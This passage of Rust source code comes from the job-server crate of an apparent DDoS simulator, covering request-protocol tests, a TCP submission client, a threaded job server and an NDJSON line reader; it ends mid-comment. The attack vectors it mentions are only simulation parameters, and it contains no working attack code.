    fn submit_line(extra: &str) -> String {
        format!(
            r#"{{"schema":"ddosim.serve/1","action":"submit","scenario":{}{extra}}}"#,
            plan_json().replace('\n', " ")
        )
    }

    #[test]
    fn submit_with_scenario_parses() {
        let action = parse_request(&submit_line(r#","record":true,"id":"a1""#)).expect("valid");
        let Action::Submit(req) = action else { panic!("expected submit") };
        assert_eq!(req.id.as_deref(), Some("a1"));
        assert!(req.record);
        assert!(req.metrics_interval.is_none());
        let JobSpec::Scenario(plan) = req.spec else { panic!("expected scenario") };
        assert_eq!(plan.config().devs, 3);
    }

    #[test]
    fn submit_with_config_parses() {
        let config = ddosim_core::SimulationBuilder::new().devs(4).seed(9).config().clone();
        let doc = ddosim_core::checkpoint::config_to_json(&config).to_string_compact();
        let line = format!(
            r#"{{"schema":"ddosim.serve/1","action":"submit","config":{doc},"metrics_interval_secs":2.5}}"#
        );
        let Action::Submit(req) = parse_request(&line).expect("valid") else {
            panic!("expected submit")
        };
        assert_eq!(req.metrics_interval, Some(Duration::from_secs_f64(2.5)));
        let JobSpec::Config(c) = req.spec else { panic!("expected config") };
        assert_eq!((c.devs, c.seed), (4, 9));
    }

    #[test]
    fn shutdown_parses_and_rejects_extras() {
        assert!(matches!(
            parse_request(r#"{"schema":"ddosim.serve/1","action":"shutdown"}"#),
            Ok(Action::Shutdown)
        ));
        let err = parse_request(r#"{"schema":"ddosim.serve/1","action":"shutdown","id":"x"}"#)
            .expect_err("extra field");
        assert!(err.contains("unexpected field 'id'"), "got: {err}");
    }

    /// Table of invalid request lines with the fragment each error must
    /// contain.
    #[test]
    fn invalid_requests_are_rejected_with_context() {
        let table: &[(String, &str)] = &[
            ("not json".into(), "not valid JSON"),
            ("[1,2]".into(), "not a JSON object"),
            (r#"{"action":"submit"}"#.into(), "missing string field 'schema'"),
            (r#"{"schema":"ddosim.serve/2","action":"submit"}"#.into(), "unsupported schema"),
            (r#"{"schema":"ddosim.serve/1"}"#.into(), "missing string field 'action'"),
            (r#"{"schema":"ddosim.serve/1","action":"dance"}"#.into(), "unknown action"),
            (
                r#"{"schema":"ddosim.serve/1","action":"submit"}"#.into(),
                "exactly one of 'scenario' or 'config'",
            ),
            (submit_line(r#","config":{}"#), "both 'scenario' and 'config'"),
            (submit_line(r#","frobnicate":1"#), "unknown field 'frobnicate'"),
            (submit_line(r#","id":"""#), "1..=128 characters"),
            (submit_line(r#","record":"yes""#), "'record' is not a boolean"),
            (submit_line(r#","metrics_interval_secs":0"#), "must be positive"),
            (submit_line(r#","metrics_interval_secs":"soon""#), "is not a number"),
            (
                r#"{"schema":"ddosim.serve/1","action":"submit","scenario":{"schema":"nope"}}"#
                    .into(),
                "scenario:",
            ),
            (
                r#"{"schema":"ddosim.serve/1","action":"submit","config":{"devs":3}}"#.into(),
                "config:",
            ),
        ];
        for (line, fragment) in table {
            match parse_request(line) {
                Err(msg) => assert!(
                    msg.contains(fragment),
                    "line {line:?}: error {msg:?} does not mention {fragment:?}"
                ),
                Ok(_) => panic!("line {line:?} unexpectedly accepted"),
            }
        }
    }

    #[test]
    fn frames_carry_the_job_id_for_demuxing() {
        let ev = Event {
            time_nanos: 5,
            seq: 0,
            node: Some(1),
            category: telemetry::Category::Phase,
            detail: "init".into(),
        };
        for f in [
            frame_accepted("j1"),
            frame_started("j1", Some(8)),
            frame_event("j1", &ev),
            frame_metrics("j1", "bots", 0, 1_000_000_000, 2.0),
            frame_result("j1", Json::Null, 3, None),
            frame_error(Some("j1"), "boom"),
        ] {
            assert_eq!(job_id(&f), Some("j1"), "frame {}", f.to_string_compact());
            assert_eq!(f.get("schema").and_then(Json::as_str), Some(SERVE_SCHEMA));
        }
        assert_eq!(job_id(&frame_error(None, "bad request")), None);
        assert_eq!(job_id(&frame_shutdown()), None);
        // A frame line round-trips through the parser with the embedded
        // event intact (what the client relies on to rebuild the trace).
        let line = frame_event("j1", &ev).to_string_compact();
        let back = Json::parse(&line).expect("frame is valid JSON");
        let event = back.get("event").expect("event payload");
        let back_ev: Event = djson::FromJson::from_json(event).expect("event parses");
        assert_eq!(back_ev, ev);
    }
}
