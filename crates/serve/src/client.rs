//! The submitting client behind `ddosim submit`.
//!
//! Connects, writes one request line, then consumes the frame stream
//! for that job: counting streamed events and samples, and — for
//! `record` jobs — reassembling the flight-recorder trace so the caller
//! can write a file byte-identical to what `ddosim --scenario --record`
//! writes offline. The reassembly mirrors the ring exactly: the client
//! keeps only the last `recorder_capacity` streamed events (older ones
//! scrolled off the server's ring too) and re-serializes each through
//! the same [`Event`](telemetry::Event) writer the recorder uses.

use crate::framing::{FrameError, LineReader};
use crate::protocol::{job_id, SERVE_SCHEMA};
use djson::{FromJson, Json, ToJson};
use std::collections::VecDeque;
use std::io::Write as _;
use std::net::TcpStream;
use telemetry::{Event, RECORDER_SCHEMA};

/// What to submit and how to watch it.
#[derive(Debug, Default)]
pub struct SubmitOptions {
    /// Server address, e.g. `127.0.0.1:47001`.
    pub addr: String,
    /// Scenario plan text (`ddosim.scenario/1`) — the `--scenario` path.
    pub scenario: Option<String>,
    /// Resolved configuration document text — the `--config` path.
    pub config: Option<String>,
    /// Ask the server to drain and stop instead of submitting a job.
    pub shutdown: bool,
    /// Client-chosen job id.
    pub id: Option<String>,
    /// Stream flight-recorder events and reassemble the trace.
    pub record: bool,
    /// Stream time-series samples every this many simulated seconds.
    pub metrics_interval_secs: Option<f64>,
    /// Print every raw frame line to stdout as it arrives (live view).
    pub follow: bool,
}

/// What came back.
#[derive(Debug)]
pub enum SubmitOutcome {
    /// The job ran to completion.
    Completed {
        /// The job id frames were demuxed on.
        job: String,
        /// The deterministic `RunResult` row from the final frame.
        result: Json,
        /// The reassembled recorder document (compact + trailing
        /// newline, exactly the offline `--record` file bytes), for
        /// `record` jobs.
        trace: Option<String>,
        /// Flight-recorder events streamed (equals the run's
        /// `events_recorded`).
        events_streamed: u64,
        /// Time-series samples streamed.
        metrics_samples: u64,
    },
    /// The server acknowledged a shutdown request.
    ShutdownAcknowledged,
}

/// Builds the single request line for `opts` (without the newline).
fn build_request(opts: &SubmitOptions) -> Result<String, String> {
    if opts.shutdown {
        return Ok(Json::obj([
            ("schema", Json::Str(SERVE_SCHEMA.into())),
            ("action", Json::Str("shutdown".into())),
        ])
        .to_string_compact());
    }
    let payload = match (&opts.scenario, &opts.config) {
        (Some(_), Some(_)) => {
            return Err("submit exactly one of a scenario or a config, not both".to_owned())
        }
        (None, None) => {
            return Err("nothing to submit: provide a scenario or a config".to_owned())
        }
        (Some(text), None) => (
            "scenario",
            Json::parse(text).map_err(|e| format!("scenario is not valid JSON: {e}"))?,
        ),
        (None, Some(text)) => (
            "config",
            Json::parse(text).map_err(|e| format!("config is not valid JSON: {e}"))?,
        ),
    };
    let mut members = vec![
        ("schema".to_owned(), Json::Str(SERVE_SCHEMA.into())),
        ("action".to_owned(), Json::Str("submit".into())),
        (payload.0.to_owned(), payload.1),
    ];
    if let Some(id) = &opts.id {
        members.push(("id".to_owned(), Json::Str(id.clone())));
    }
    if opts.record {
        members.push(("record".to_owned(), Json::Bool(true)));
    }
    if let Some(secs) = opts.metrics_interval_secs {
        members.push(("metrics_interval_secs".to_owned(), Json::F64(secs)));
    }
    Ok(Json::Obj(members).to_string_compact())
}

/// Submits one request and consumes its frame stream.
///
/// # Errors
///
/// Returns a message on connection failure, an invalid submission, any
/// `error` frame for this job (or a request-level one), or a stream
/// that ends before the job finishes — so a caller turning this into an
/// exit code is nonzero exactly when the server rejected or failed the
/// job.
pub fn submit(opts: &SubmitOptions) -> Result<SubmitOutcome, String> {
    let request = build_request(opts)?;
    let stream = TcpStream::connect(&opts.addr)
        .map_err(|e| format!("connecting to {}: {e}", opts.addr))?;
    let mut write_half = stream.try_clone().map_err(|e| format!("socket clone: {e}"))?;
    write_half
        .write_all(format!("{request}\n").as_bytes())
        .and_then(|()| write_half.flush())
        .map_err(|e| format!("sending request: {e}"))?;

    let mut reader = LineReader::new(stream);
    let mut job: Option<String> = None;
    let mut ring_capacity: Option<usize> = None;
    let mut events: VecDeque<Json> = VecDeque::new();
    let mut events_streamed = 0u64;
    let mut metrics_samples = 0u64;
    loop {
        let line = match reader.next_line() {
            Ok(Some(line)) => line,
            Ok(None) => {
                return Err("connection closed before the job finished".to_owned());
            }
            Err(FrameError::TimedOut) => continue,
            Err(e) => return Err(e.message()),
        };
        if line.trim().is_empty() {
            continue;
        }
        if opts.follow {
            println!("{line}");
        }
        let frame =
            Json::parse(&line).map_err(|e| format!("server sent an invalid frame: {e}"))?;
        let kind = frame
            .get("frame")
            .and_then(Json::as_str)
            .ok_or("server sent a frame without a 'frame' field")?;
        let ours = match (job_id(&frame), &job) {
            (Some(j), Some(mine)) => j == mine,
            // Until `accepted` names our job, every per-job frame on
            // this fresh connection is ours.
            (Some(_), None) => true,
            (None, _) => true,
        };
        match kind {
            "shutdown" => {
                if opts.shutdown {
                    return Ok(SubmitOutcome::ShutdownAcknowledged);
                }
            }
            "error" if ours => {
                let msg = frame
                    .get("error")
                    .and_then(Json::as_str)
                    .unwrap_or("server reported an error");
                return Err(msg.to_owned());
            }
            "accepted" if job.is_none() => {
                job = job_id(&frame).map(str::to_owned);
            }
            "started" if ours => {
                ring_capacity = frame
                    .get("recorder_capacity")
                    .and_then(Json::as_u64)
                    .map(|c| c as usize);
            }
            "event" if ours => {
                events_streamed += 1;
                if let Some(event) = frame.get("event") {
                    events.push_back(event.clone());
                    // Mirror the server's ring: keep only the newest
                    // `capacity` events.
                    if let Some(cap) = ring_capacity {
                        while events.len() > cap {
                            events.pop_front();
                        }
                    }
                }
            }
            "metrics" if ours => metrics_samples += 1,
            "result" if ours => {
                let result = frame.get("result").cloned().unwrap_or(Json::Null);
                let total = frame
                    .get("events_recorded")
                    .and_then(Json::as_u64)
                    .unwrap_or(events_streamed);
                let capacity = frame
                    .get("recorder_capacity")
                    .and_then(Json::as_u64)
                    .or(ring_capacity.map(|c| c as u64));
                let trace = if opts.record {
                    Some(assemble_trace(&events, capacity.unwrap_or(0), total)?)
                } else {
                    None
                };
                return Ok(SubmitOutcome::Completed {
                    job: job.unwrap_or_default(),
                    result,
                    trace,
                    events_streamed,
                    metrics_samples,
                });
            }
            // Frames for other jobs on a shared connection, or kinds a
            // newer server might add: ignore.
            _ => {}
        }
    }
}

/// Rebuilds the recorder document from streamed events — the same bytes
/// `FlightRecorder::to_json().to_string_compact() + "\n"` produces
/// offline, because each event re-serializes through the one `Event`
/// writer and djson's writer is deterministic.
fn assemble_trace(events: &VecDeque<Json>, capacity: u64, total: u64) -> Result<String, String> {
    let mut list = Vec::with_capacity(events.len());
    for raw in events {
        let event = Event::from_json(raw)
            .map_err(|e| format!("streamed event does not parse: {e}"))?;
        list.push(event.to_json());
    }
    let doc = Json::obj([
        ("schema", Json::Str(RECORDER_SCHEMA.into())),
        ("capacity", Json::U64(capacity)),
        ("total_recorded", Json::U64(total)),
        ("events", Json::Arr(list)),
    ]);
    Ok(doc.to_string_compact() + "\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn request_lines_round_trip_through_the_server_parser() {
        let plan = r#"{"schema":"ddosim.scenario/1","name":"t",
            "world":{"devs":3,"seed":7,"sim_time_secs":45,"attack_at_secs":25},
            "attack":{"vector":"udpplain","duration_secs":15}}"#;
        let line = build_request(&SubmitOptions {
            scenario: Some(plan.to_owned()),
            record: true,
            id: Some("a1".to_owned()),
            metrics_interval_secs: Some(2.0),
            ..SubmitOptions::default()
        })
        .expect("valid options");
        match crate::protocol::parse_request(&line).expect("server accepts") {
            crate::protocol::Action::Submit(req) => {
                assert_eq!(req.id.as_deref(), Some("a1"));
                assert!(req.record);
                assert!(req.metrics_interval.is_some());
            }
            other => panic!("expected submit, got {other:?}"),
        }

        let line = build_request(&SubmitOptions {
            shutdown: true,
            ..SubmitOptions::default()
        })
        .expect("valid options");
        assert!(matches!(
            crate::protocol::parse_request(&line),
            Ok(crate::protocol::Action::Shutdown)
        ));
    }

    #[test]
    fn nonsense_option_combinations_are_rejected_locally() {
        let both = SubmitOptions {
            scenario: Some("{}".to_owned()),
            config: Some("{}".to_owned()),
            ..SubmitOptions::default()
        };
        assert!(build_request(&both).expect_err("both").contains("not both"));
        assert!(build_request(&SubmitOptions::default())
            .expect_err("neither")
            .contains("nothing to submit"));
        let bad_json = SubmitOptions {
            scenario: Some("{not json".to_owned()),
            ..SubmitOptions::default()
        };
        assert!(build_request(&bad_json).expect_err("syntax").contains("not valid JSON"));
    }

    #[test]
    fn assembled_trace_matches_the_recorder_writer() {
        let mut recorder = telemetry::FlightRecorder::new(2);
        let mut streamed = VecDeque::new();
        for (t, detail) in [(5u64, "a"), (9, "b"), (12, "c")] {
            let mut event = Event {
                time_nanos: t,
                seq: 0,
                node: Some(1),
                category: telemetry::Category::Phase,
                detail: detail.into(),
            };
            event.seq = recorder.record(event.clone());
            streamed.push_back(event.to_json());
            while streamed.len() > 2 {
                streamed.pop_front();
            }
        }
        let offline = recorder.to_json().to_string_compact() + "\n";
        let reassembled = assemble_trace(&streamed, 2, 3).expect("valid events");
        assert_eq!(reassembled, offline);
    }
}
