//! The resident server: accept loop, per-connection reader/writer
//! threads, and the job worker pool.
//!
//! Threading model (one `Ddosim` world is `!Send` by design, so worlds
//! are built *inside* worker threads, never moved across them — the same
//! shape as the sweep runners in `ddosim_core::experiment`):
//!
//! * The accept loop polls a nonblocking listener every 50 ms so it can
//!   notice shutdown (SIGTERM, a protocol `shutdown` request, or the
//!   idle timeout) promptly.
//! * Each connection gets a reader thread (sockets carry a 100 ms read
//!   timeout, again so shutdown is prompt) and a writer thread fed by an
//!   unbounded channel — every frame for that connection, whichever
//!   worker produced it, funnels through the one writer, so frames are
//!   whole lines and per-job order is preserved.
//! * Workers pull jobs off a shared queue, build the world, attach the
//!   streaming event sink, run, and emit the final frame. A job that
//!   fails validation or panics mid-run costs an `error` frame for that
//!   job id and nothing else: the worker survives (`catch_unwind`, the
//!   same isolation the sweep paths use) and keeps serving.
//!
//! Shutdown drains: queued jobs still run, their frames still deliver,
//! and `run` returns `Ok(())` once workers and connections are joined.

use crate::framing::{FrameError, LineReader};
use crate::protocol::{self, Action, JobSpec};
use ddosim_core::{
    install_location_hook, panic_message, take_panic_location, Ddosim, Telemetry, TelemetryConfig,
};
use djson::Json;
use std::io::Write as _;
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::sync::mpsc::{Receiver, Sender};
use std::sync::{mpsc, Arc, Mutex};
use std::thread;
use std::time::{Duration, Instant};

/// Set by the SIGTERM handler; the accept loop polls it.
static SIGNALLED: AtomicBool = AtomicBool::new(false);

extern "C" fn on_sigterm(_signum: i32) {
    SIGNALLED.store(true, Ordering::SeqCst);
}

/// Installs the SIGTERM handler via the C `signal` symbol directly —
/// the workspace has no libc crate, and storing one atomic flag is
/// async-signal-safe.
fn install_sigterm_handler() {
    #[cfg(unix)]
    {
        extern "C" {
            fn signal(signum: i32, handler: usize) -> usize;
        }
        const SIGTERM: i32 = 15;
        unsafe {
            signal(SIGTERM, on_sigterm as extern "C" fn(i32) as usize);
        }
    }
}

/// How `ddosim serve` listens and when it gives up.
#[derive(Debug, Clone)]
pub struct ServeOptions {
    /// Listen address, e.g. `127.0.0.1:0` (port 0 picks an ephemeral
    /// port; read it back with [`Server::local_addr`]).
    pub listen: String,
    /// Stop serving after this much wall-clock time with no connection
    /// activity and no pending jobs. `None` serves until SIGTERM or a
    /// protocol shutdown.
    pub idle_timeout: Option<Duration>,
    /// Worker threads (each runs one world at a time). Defaults to a
    /// small pool sized from available parallelism.
    pub workers: Option<usize>,
}

impl Default for ServeOptions {
    fn default() -> Self {
        ServeOptions { listen: "127.0.0.1:0".to_owned(), idle_timeout: None, workers: None }
    }
}

/// A bound (but not yet serving) server. Binding and serving are split
/// so callers can learn the ephemeral port before entering the accept
/// loop.
#[derive(Debug)]
pub struct Server {
    listener: TcpListener,
    addr: SocketAddr,
    opts: ServeOptions,
    shutdown: Arc<AtomicBool>,
}

/// Binds and serves in one call; returns when the server shuts down.
///
/// # Errors
///
/// Returns a message if the listen address cannot be bound or the
/// listener fails.
pub fn serve(opts: ServeOptions) -> Result<(), String> {
    Server::bind(opts)?.run()
}

/// One queued unit of work: what to run and where its frames go.
struct Job {
    id: String,
    spec: JobSpec,
    record: bool,
    metrics_interval: Option<Duration>,
    out: Sender<String>,
}

fn send_frame(out: &Sender<String>, frame: Json) {
    // A send error means the connection's writer is gone (client hung
    // up); the job keeps running, its remaining frames just drop.
    let _ = out.send(frame.to_string_compact());
}

impl Server {
    /// Binds the listen address.
    ///
    /// # Errors
    ///
    /// Returns a message if binding fails.
    pub fn bind(opts: ServeOptions) -> Result<Server, String> {
        let listener = TcpListener::bind(&opts.listen)
            .map_err(|e| format!("binding {}: {e}", opts.listen))?;
        let addr = listener
            .local_addr()
            .map_err(|e| format!("reading bound address: {e}"))?;
        Ok(Server { listener, addr, opts, shutdown: Arc::new(AtomicBool::new(false)) })
    }

    /// The bound address (the real port, when `listen` asked for 0).
    pub fn local_addr(&self) -> SocketAddr {
        self.addr
    }

    /// A handle that makes [`Server::run`] return after draining when
    /// set (what a protocol `shutdown` request sets internally).
    pub fn shutdown_handle(&self) -> Arc<AtomicBool> {
        Arc::clone(&self.shutdown)
    }

    /// Serves until SIGTERM, a protocol `shutdown` request, or the idle
    /// timeout; drains pending jobs, then returns.
    ///
    /// # Errors
    ///
    /// Returns a message if the listener itself fails. Per-connection
    /// and per-job failures are reported as `error` frames, never here.
    pub fn run(self) -> Result<(), String> {
        install_sigterm_handler();
        install_location_hook();
        self.listener
            .set_nonblocking(true)
            .map_err(|e| format!("listener nonblocking: {e}"))?;

        let pending = Arc::new(AtomicUsize::new(0));
        let (job_tx, job_rx) = mpsc::channel::<Job>();
        let job_rx = Arc::new(Mutex::new(job_rx));
        let worker_count = self.opts.workers.unwrap_or_else(default_workers).max(1);
        let workers: Vec<_> = (0..worker_count)
            .map(|_| {
                let rx = Arc::clone(&job_rx);
                let pending = Arc::clone(&pending);
                thread::spawn(move || worker_loop(&rx, &pending))
            })
            .collect();

        let job_counter = Arc::new(AtomicU64::new(0));
        let mut connections = Vec::new();
        let mut last_activity = Instant::now();
        loop {
            if self.shutdown.load(Ordering::SeqCst) || SIGNALLED.load(Ordering::SeqCst) {
                break;
            }
            if pending.load(Ordering::SeqCst) > 0 {
                last_activity = Instant::now();
            } else if let Some(limit) = self.opts.idle_timeout {
                if last_activity.elapsed() >= limit {
                    break;
                }
            }
            match self.listener.accept() {
                Ok((stream, _peer)) => {
                    last_activity = Instant::now();
                    let job_tx = job_tx.clone();
                    let shutdown = Arc::clone(&self.shutdown);
                    let pending = Arc::clone(&pending);
                    let counter = Arc::clone(&job_counter);
                    connections.push(thread::spawn(move || {
                        // A dead or misbehaving client costs only its own
                        // connection.
                        let _ = handle_connection(stream, &job_tx, &shutdown, &pending, &counter);
                    }));
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                    thread::sleep(Duration::from_millis(50));
                }
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
                Err(e) => return Err(format!("accept failed: {e}")),
            }
        }
        // Drain: reader threads notice the flag within their read
        // timeout, workers finish the queue once every sender is gone.
        self.shutdown.store(true, Ordering::SeqCst);
        drop(job_tx);
        for w in workers {
            let _ = w.join();
        }
        for c in connections {
            let _ = c.join();
        }
        Ok(())
    }
}

fn default_workers() -> usize {
    // Each worker runs a full single-threaded world; a small pool keeps
    // the box responsive while still overlapping concurrent jobs.
    thread::available_parallelism()
        .map(|n| n.get().saturating_sub(1).clamp(1, 4))
        .unwrap_or(2)
}

/// Reads requests off one connection, queueing jobs and answering
/// protocol errors, until EOF, a fatal transport error, or shutdown.
fn handle_connection(
    stream: TcpStream,
    job_tx: &Sender<Job>,
    shutdown: &Arc<AtomicBool>,
    pending: &Arc<AtomicUsize>,
    counter: &Arc<AtomicU64>,
) -> Result<(), String> {
    stream
        .set_read_timeout(Some(Duration::from_millis(100)))
        .map_err(|e| format!("socket read timeout: {e}"))?;
    let write_half = stream.try_clone().map_err(|e| format!("socket clone: {e}"))?;
    let (out_tx, out_rx) = mpsc::channel::<String>();
    let writer = thread::spawn(move || writer_loop(write_half, &out_rx));

    let mut reader = LineReader::new(stream);
    loop {
        if shutdown.load(Ordering::SeqCst) {
            break;
        }
        let line = match reader.next_line() {
            Ok(None) => break,
            Ok(Some(line)) if line.trim().is_empty() => continue,
            Ok(Some(line)) => line,
            Err(FrameError::TimedOut) => continue,
            // Recoverable framing failures answer with an error frame
            // and keep the connection alive (the reader has already
            // resynchronized).
            Err(e @ (FrameError::Oversized { .. } | FrameError::NotUtf8)) => {
                send_frame(&out_tx, protocol::frame_error(None, &e.message()));
                continue;
            }
            Err(FrameError::Io(e)) => {
                // The transport died; nobody is left to notify.
                let _ = e;
                break;
            }
        };
        match protocol::parse_request(&line) {
            Err(msg) => send_frame(&out_tx, protocol::frame_error(None, &msg)),
            Ok(Action::Shutdown) => {
                send_frame(&out_tx, protocol::frame_shutdown());
                shutdown.store(true, Ordering::SeqCst);
                break;
            }
            Ok(Action::Submit(req)) => {
                let id = req
                    .id
                    .unwrap_or_else(|| format!("job-{}", counter.fetch_add(1, Ordering::SeqCst)));
                send_frame(&out_tx, protocol::frame_accepted(&id));
                pending.fetch_add(1, Ordering::SeqCst);
                let job = Job {
                    id,
                    spec: req.spec,
                    record: req.record,
                    metrics_interval: req.metrics_interval,
                    out: out_tx.clone(),
                };
                if let Err(refused) = job_tx.send(job) {
                    pending.fetch_sub(1, Ordering::SeqCst);
                    send_frame(
                        &out_tx,
                        protocol::frame_error(Some(&refused.0.id), "server is shutting down"),
                    );
                }
            }
        }
    }
    // The writer exits once every sender is gone — ours here, plus the
    // clone each of this connection's jobs holds until it finishes, so
    // in-flight frames still deliver.
    drop(out_tx);
    let _ = writer.join();
    Ok(())
}

/// Writes queued frame lines to the socket until every sender is gone.
fn writer_loop(mut stream: TcpStream, rx: &Receiver<String>) {
    while let Ok(mut line) = rx.recv() {
        line.push('\n');
        if stream.write_all(line.as_bytes()).and_then(|()| stream.flush()).is_err() {
            // Client hung up; drain silently so senders never block.
            while rx.recv().is_ok() {}
            break;
        }
    }
    let _ = stream.shutdown(std::net::Shutdown::Write);
}

/// Pulls jobs off the shared queue until the queue closes.
fn worker_loop(rx: &Arc<Mutex<Receiver<Job>>>, pending: &Arc<AtomicUsize>) {
    loop {
        // Standard pool idiom: the lock is held only for the blocking
        // recv; a poisoned lock (a panic between recv and unlock cannot
        // happen, but belt and braces) still yields the receiver.
        let job = {
            let guard = rx.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
            guard.recv()
        };
        let Ok(job) = job else { break };
        run_one(&job);
        pending.fetch_sub(1, Ordering::SeqCst);
    }
}

/// Runs one job with panic isolation: any failure becomes an `error`
/// frame for this job id, and the worker lives on.
fn run_one(job: &Job) {
    let outcome = catch_unwind(AssertUnwindSafe(|| run_job(job)));
    match outcome {
        Ok(Ok(())) => {}
        Ok(Err(msg)) => send_frame(&job.out, protocol::frame_error(Some(&job.id), &msg)),
        Err(payload) => {
            let msg = format!(
                "job panicked{}: {}",
                take_panic_location(),
                panic_message(&*payload)
            );
            send_frame(&job.out, protocol::frame_error(Some(&job.id), &msg));
        }
    }
}

/// Builds the world exactly as the offline paths do, attaches the
/// streaming sink, runs, and emits the final frame.
///
/// Determinism: a scenario job is `plan.build_with_telemetry(tconf)` —
/// the very call `ddosim --scenario --record` makes — and the sink and
/// the `run_prefix` stepping are both proven observers (the sink never
/// touches the ring's contents; the resumable phase walk is
/// byte-identical to a straight-through run, which the checkpoint CI
/// stage already enforces). So the streamed trace for seed+plan equals
/// the offline trace byte for byte; the CI serve stage diffs exactly
/// that.
fn run_job(job: &Job) -> Result<(), String> {
    let tconf = TelemetryConfig {
        record: job.record,
        metrics_interval: job.metrics_interval,
        ..TelemetryConfig::default()
    };
    let mut world = match &job.spec {
        JobSpec::Scenario(plan) => plan.build_with_telemetry(tconf)?,
        JobSpec::Config(config) => {
            // Embedded configs own their telemetry (checkpoint-style);
            // the request's knobs are ORed on top, mirroring how the
            // CLI layers output flags over a resumed run.
            let mut c = config.clone();
            c.telemetry.record |= tconf.record;
            if tconf.metrics_interval.is_some() {
                c.telemetry.metrics_interval = tconf.metrics_interval;
            }
            Ddosim::new(c)?
        }
    };
    let tele = world.telemetry().clone();
    send_frame(&job.out, protocol::frame_started(&job.id, tele.recorder_capacity()));
    if job.record {
        // World construction already recorded events (container starts
        // and the like) before any sink could exist; stream that ring
        // prefix first, then tap the recorder live for the rest —
        // together they are the run's complete event sequence.
        if let Some(snapshot) = tele.recorder_json() {
            let prefix = telemetry::FlightRecorder::events_from_json(&snapshot)
                .map_err(|e| format!("recorder snapshot: {e}"))?;
            for event in &prefix {
                send_frame(&job.out, protocol::frame_event(&job.id, event));
            }
        }
        let out = job.out.clone();
        let id = job.id.clone();
        tele.set_event_sink(move |event| {
            let _ = out.send(protocol::frame_event(&id, event).to_string_compact());
        });
    }

    // With metrics on, step the simulation in interval-sized prefixes so
    // new samples stream out while the run is still going. run_prefix is
    // the checkpoint-proven resumable walk: stepping changes nothing the
    // simulation can observe.
    let mut emitted: Vec<(String, usize)> = Vec::new();
    if let Some(interval) = job.metrics_interval {
        let horizon = world.config().sim_time;
        let mut upto = interval;
        while upto < horizon {
            world.run_prefix(upto)?;
            flush_new_samples(job, &tele, &mut emitted);
            upto += interval;
        }
    }
    let completion = world.try_run_to_completion();
    flush_new_samples(job, &tele, &mut emitted);
    tele.clear_event_sink();
    let (result, _checkpoint) = completion?;
    send_frame(
        &job.out,
        protocol::frame_result(
            &job.id,
            result.to_deterministic_json(),
            tele.events_recorded(),
            tele.recorder_capacity(),
        ),
    );
    Ok(())
}

/// Streams every time-series sample not yet sent, tracking a per-series
/// high-water mark.
fn flush_new_samples(job: &Job, tele: &Telemetry, emitted: &mut Vec<(String, usize)>) {
    tele.with_metrics(|set| {
        let interval = set.interval_nanos();
        for series in set.all() {
            let slot = emitted.iter().position(|(name, _)| name == series.name());
            let start = slot.map_or(0, |i| emitted[i].1);
            for (index, value) in series.samples().iter().enumerate().skip(start) {
                send_frame(
                    &job.out,
                    protocol::frame_metrics(&job.id, series.name(), index, interval, *value),
                );
            }
            match slot {
                Some(i) => emitted[i].1 = series.len(),
                None => emitted.push((series.name().to_owned(), series.len())),
            }
        }
    });
}
