//! NDJSON socket framing: one JSON document per `\n`-terminated line.
//!
//! [`LineReader`] deals with everything a TCP byte stream does to a
//! line protocol: reads that deliver half a frame, frames split across
//! arbitrarily many segments, several frames arriving in one read, and
//! hostile lines that never terminate. An oversized line is reported as
//! a recoverable [`FrameError::Oversized`] — the reader then discards
//! bytes until the next newline and keeps framing, so the server can
//! answer with an error frame instead of dying (or buffering without
//! bound).

use std::io::Read;

/// Longest accepted line, in bytes. Submissions embed whole scenario
/// plans or resolved `SimulationConfig` documents, so the cap is
/// generous — but it exists, because a newline-less peer must not make
/// the server buffer forever.
pub const MAX_LINE_BYTES: usize = 4 * 1024 * 1024;

/// A framing failure. Only `Io` ends the connection; the other variants
/// leave the reader in a consistent state and the caller may keep
/// reading.
#[derive(Debug)]
pub enum FrameError {
    /// A line exceeded the reader's limit. The offending bytes are
    /// dropped; the reader resynchronizes at the next newline.
    Oversized {
        /// The configured limit that was exceeded.
        limit: usize,
    },
    /// The underlying read timed out (server sockets poll with a read
    /// timeout so shutdown is prompt). No bytes were lost; retry.
    TimedOut,
    /// The transport failed; the connection is done.
    Io(String),
    /// A complete line arrived but was not valid UTF-8.
    NotUtf8,
}

impl FrameError {
    /// Human-readable message (mirrors what goes into an error frame).
    pub fn message(&self) -> String {
        match self {
            FrameError::Oversized { limit } => {
                format!("line exceeds the {limit}-byte frame limit")
            }
            FrameError::TimedOut => "read timed out".to_owned(),
            FrameError::Io(e) => format!("read failed: {e}"),
            FrameError::NotUtf8 => "line is not valid UTF-8".to_owned(),
        }
    }
}

/// Incremental NDJSON line reader over any [`Read`].
#[derive(Debug)]
pub struct LineReader<R: Read> {
    inner: R,
    /// Bytes received but not yet returned as lines.
    buf: Vec<u8>,
    max: usize,
    /// Set after an oversized line: drop everything up to and including
    /// the next newline before framing resumes.
    discarding: bool,
    /// The inner stream reached EOF.
    eof: bool,
}

impl<R: Read> LineReader<R> {
    /// Wraps `inner` with the default [`MAX_LINE_BYTES`] limit.
    pub fn new(inner: R) -> Self {
        LineReader::with_max(inner, MAX_LINE_BYTES)
    }

    /// Wraps `inner` with an explicit line-length limit (min 1).
    pub fn with_max(inner: R, max: usize) -> Self {
        LineReader { inner, buf: Vec::new(), max: max.max(1), discarding: false, eof: false }
    }

    /// Returns the next complete line without its terminating newline,
    /// `Ok(None)` on clean end of stream. A trailing unterminated chunk
    /// at EOF is returned as a final line (lenient: peers that close
    /// without a final `\n` still get their last frame processed).
    ///
    /// # Errors
    ///
    /// [`FrameError::Oversized`] and [`FrameError::NotUtf8`] are
    /// recoverable — call again to keep reading. [`FrameError::TimedOut`]
    /// means retry. [`FrameError::Io`] ends the stream.
    pub fn next_line(&mut self) -> Result<Option<String>, FrameError> {
        loop {
            // Serve whatever is already buffered first.
            if let Some(pos) = self.buf.iter().position(|&b| b == b'\n') {
                let line: Vec<u8> = self.buf.drain(..=pos).take(pos).collect();
                if self.discarding {
                    // Tail of an oversized line: swallow and resume.
                    self.discarding = false;
                    continue;
                }
                if pos > self.max {
                    // The whole oversized line (newline included) was
                    // already buffered — e.g. several frames arrived in
